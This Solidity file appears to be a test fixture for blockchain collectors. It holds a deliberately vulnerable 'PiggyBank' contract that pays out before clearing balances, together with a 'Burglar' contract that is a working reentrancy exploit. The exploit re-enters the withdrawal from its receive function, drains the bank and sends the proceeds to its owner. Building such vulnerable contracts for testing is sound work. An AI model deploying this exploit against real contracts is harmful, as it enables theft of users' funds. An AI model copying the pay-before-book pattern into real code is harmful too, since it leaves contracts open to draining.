// SPDX-License-Identifier: MIT
// Written for the tests of the chain collectors. Compiled by compile.mjs beside it; the bytecode is in Reentrancy.json.
pragma solidity ^0.8.20;

/// A piggy bank that pays before it books: whoever is called back may take the same savings again.
contract PiggyBank {
    mapping(address => uint256) public savings;

    event Saved(address indexed owner, uint256 amount);
    event Paid(address indexed owner, uint256 amount);

    function save() external payable {
        savings[msg.sender] += msg.value;
        emit Saved(msg.sender, msg.value);
    }

    function breakOpen() external {
        uint256 amount = savings[msg.sender];
        require(amount > 0, "nothing saved");
        (bool paid,) = msg.sender.call{value: amount}("");
        require(paid, "not paid");
        savings[msg.sender] = 0;
        emit Paid(msg.sender, amount);
    }
}

/// Breaks the bank open again from within the payment, until little is left.
contract Burglar {
    PiggyBank private immutable bank;
    address payable private immutable owner;

    constructor(PiggyBank target) {
        bank = target;
        owner = payable(msg.sender);
    }

    function steal() external payable {
        bank.save{value: msg.value}();
        bank.breakOpen();
        (bool paid,) = owner.call{value: address(this).balance}("");
        require(paid, "not paid");
    }

    receive() external payable {
        if (address(bank).balance >= msg.value) {
            bank.breakOpen();
        }
    }
}
